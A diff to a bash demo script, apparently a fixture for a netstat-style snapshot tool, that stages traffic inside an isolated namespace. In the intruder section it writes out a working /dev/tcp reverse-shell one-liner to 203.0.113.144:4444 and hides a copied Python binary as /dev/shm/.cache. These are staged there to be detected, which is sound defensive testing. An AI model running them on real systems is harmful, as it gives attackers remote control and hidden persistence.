@@ -14,8 +14,10 @@ if [[ ${1:-} != inside ]]; then
     [[ -d $FILE ]] && rm -f "$FILE"/demo.json "$FILE"/demo.db || rm -f "$FILE"
     install -D "$0" /srv/demo/demo.sh
     cd /srv/demo
-    exec unshare --net --pid --mount --uts --ipc --fork --mount-proc --kill-child bash ./demo.sh inside
+    exec env -i NETSTAT="$NETSTAT" FILE="$FILE" PATH="$PATH" HOME=/srv/demo TERM=xterm LC_ALL=C.UTF-8 \
+        unshare --net --pid --mount --uts --ipc --fork --mount-proc --kill-child bash ./demo.sh inside
 fi
+export -n NETSTAT FILE
 hostname harbor
 dir=/srv/demo
 install "$NETSTAT" "$dir/netstat"
@@ -76,7 +78,11 @@ while True:
     asking.settimeout(2)
     asking.sendto(b"\0\7\1\0\0\1\0\0\0\0\0\0" + name + b"\0\0\1\0\1", ("127.0.0.1", 53))
     asking.recv(512)
-    mirror = socket.create_connection(("203.0.113.80", 443))
+    try:
+        mirror = socket.create_connection(("203.0.113.80", 443))
+    except OSError:
+        time.sleep(1)
+        continue
     mirror.sendall(b"GET /data HTTP/1.0\r\n\r\n")
     while mirror.recv(20000):
         time.sleep(0.02)
@@ -99,11 +105,12 @@ if [[ -d $FILE ]]; then
     # An intruder: a shell whose input and output are a connection, and a hidden program where no program belongs.
     there python3 -c 'import socket, time
 listener = socket.create_server(("203.0.113.144", 4444))
-listener.accept()
+peers = [listener.accept() for _ in range(2)]
 time.sleep(600)' &
-    sleep 1
-    setsid bash -c 'exec bash -i <>/dev/tcp/203.0.113.144/4444 >&0 2>&1' &
+    setsid bash -c 'until (exec 3<>/dev/tcp/203.0.113.144/4444) 2>/dev/null; do sleep 1; done
+        exec bash -i <>/dev/tcp/203.0.113.144/4444 >&0 2>&1' &
     install "$(readlink -f "$(command -v python3)")" /dev/shm/.cache
+    sleep 3
     PYTHONHOME=$(python3 -c 'import sys; print(sys.prefix)') /dev/shm/.cache -m http.server 6667 --directory "$dir/site" >/dev/null 2>&1 &
     sleep 6
     HOME=$dir ./netstat snapshot --output "$dir/demo.json"
